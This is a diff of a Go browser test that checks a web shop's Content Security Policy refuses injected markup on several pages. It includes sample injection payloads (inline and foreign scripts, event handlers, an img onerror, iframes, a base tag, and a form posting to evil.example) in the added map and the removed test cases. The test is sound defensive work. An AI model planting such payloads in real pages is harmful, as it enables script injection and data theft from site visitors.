@@ -37,42 +37,59 @@ func TestCookiesAndHosts(t *testing.T) {
 	})
 }
 
-// A script that got into a page does not run: the policy blocks it (V3.4.3). Nor do its relatives.
-func TestInjectedScriptIsBlocked(t *testing.T) {
+// injected is what an attacker would like to have on a page, with the directive that must say no to it.
+var injected = map[string]string{
+	`<script>window.ran = 1</script>`:                                                        "script-src-elem",
+	`<script src="https://evil.example/x.js"></script>`:                                      "https://evil.example/x.js",
+	`<a href="#" onclick="window.ran = 1" id="trap">x</a>`:                                   "script-src-attr",
+	`<img src="https://evil.example/x.png" alt="" onerror="window.ran = 1">`:                 "https://evil.example/x.png",
+	`<iframe src="https://evil.example/f" title="x"></iframe>`:                               "frame-src",
+	`<style>body { display: none }</style>`:                                                  "style-src-elem",
+	`<p style="position: fixed">x</p>`:                                                       "style-src-attr",
+	`<link rel="stylesheet" href="https://evil.example/x.css">`:                              "https://evil.example/x.css",
+	`<object data="https://evil.example/o"></object>`:                                        "object-src",
+	`<base href="https://evil.example/">`:                                                    "base-uri",
+	`<form id="lure" action="https://evil.example/in" method="post"><input name="a"></form>`: "form-action",
+}
+
+// Whatever got into a page does not run, load or send: the policy says no to each (V3.4.3, V3.4.7). The pages stand for
+// every class of request, with script and without.
+func TestInjectedMarkupIsBlocked(t *testing.T) {
 	t.Parallel()
 	turn(t)
 	g := guide(t, "en", chrome.Options{Width: 1280})
-	for _, path := range []string{"/", "/c/tableware", tour.WithOptions, "/search?q=bowl", "/cart", "/withdraw"} {
+	g.Add(tour.Plain)
+	markup := ""
+	for m := range injected {
+		markup += m
+	}
+	g.Inject(markup)
+	for _, path := range []string{"/", "/c/tableware", tour.WithOptions, "/search?q=bowl", "/cart", "/checkout", "/order/link", "/withdraw", "/privacy"} {
 		g.Goto(g.To(path))
-		for what, inject := range map[string]string{
-			"inline script":  `const s = document.createElement("script"); s.textContent = "window.ran = 1"; document.head.append(s)`,
-			"foreign script": `const s = document.createElement("script"); s.src = "https://evil.example/x.js"; document.head.append(s)`,
-			"handler":        `const b = document.createElement("button"); b.setAttribute("onclick", "window.ran = 1"); document.body.append(b); b.click()`,
-			"foreign image":  `const i = new Image(); i.src = "https://evil.example/x.png"; document.body.append(i)`,
-			"foreign form":   `const f = document.createElement("form"); f.action = "https://evil.example/"; f.method = "post"; document.body.append(f); f.submit()`,
-			"foreign frame":  `const f = document.createElement("iframe"); f.src = "https://evil.example/"; document.body.append(f)`,
-			"eval":           `setTimeout("window.ran = 1", 0)`,
-			"foreign fetch":  `fetch("https://evil.example/").catch(() => {})`,
-		} {
-			g.Eval("(() => { "+inject+" })()", nil)
-			var said []string
-			for range 40 {
-				g.Wait("the page", "true")
-				if said = append(said, g.Troubles()...); len(said) > 0 {
-					break
-				}
+		if !g.Has("#trap") {
+			t.Fatalf("%s: nothing was injected", path)
+		}
+		g.Eval(`document.querySelector("#trap").click(); document.querySelector("#lure").submit()`, nil)
+		said := g.Troubles()
+		for range 100 { // the last refusals come a moment after the page
+			if g.Wait("the page", "true"); strings.Contains(strings.Join(said, " "), "form-action") {
+				break
 			}
-			if len(said) == 0 || !strings.Contains(strings.ToLower(strings.Join(said, " ")), "content security policy") {
-				t.Errorf("%s: %s was not blocked: %v", path, what, said)
+			said = append(said, g.Troubles()...)
+		}
+		for m, word := range injected {
+			if !strings.Contains(strings.Join(said, " "), word) {
+				t.Errorf("%s: %s was not refused", path, m)
 			}
 		}
-		if g.Bool("window.ran") {
-			t.Errorf("%s: an injected script ran", path)
+		if g.Bool("window.ran") || !strings.HasPrefix(g.URL(), g.Demo.Shop) {
+			t.Errorf("%s: injected markup ran, or led away to %s", path, g.URL())
 		}
-		if !strings.HasPrefix(g.URL(), g.Demo.Shop) {
-			t.Errorf("%s: led away to %s", path, g.URL())
+	}
+	for _, host := range g.Hosts() {
+		if host != g.Demo.Shop && host != g.Demo.Sandbox && !strings.Contains(host, "evil.example") {
+			t.Errorf("asked %s", host)
 		}
-		g.Troubles()
 	}
 }
 
@@ -90,23 +107,11 @@ func TestCheckoutRunsNoScript(t *testing.T) {
 		if g.Has("script") {
 			t.Errorf("%s has a script", name)
 		}
-		g.Eval(`(() => { const s = document.createElement("script"); s.src = "/look/x.js"; document.head.append(s) })()`, nil)
 	}
 	g.Add(tour.Plain)
 	tour.Forms(g, who, none)
 	tour.Endings(g, who, none)
 	if seen < 8 {
 		t.Errorf("only %d pages were seen", seen)
-	}
-	blocked := 0
-	for _, trouble := range g.Troubles() {
-		if strings.Contains(strings.ToLower(trouble), "content security policy") {
-			blocked++
-		} else {
-			t.Error(trouble)
-		}
-	}
-	if blocked == 0 {
-		t.Error("a script from the shop's own host would run in the checkout")
 	}
 }
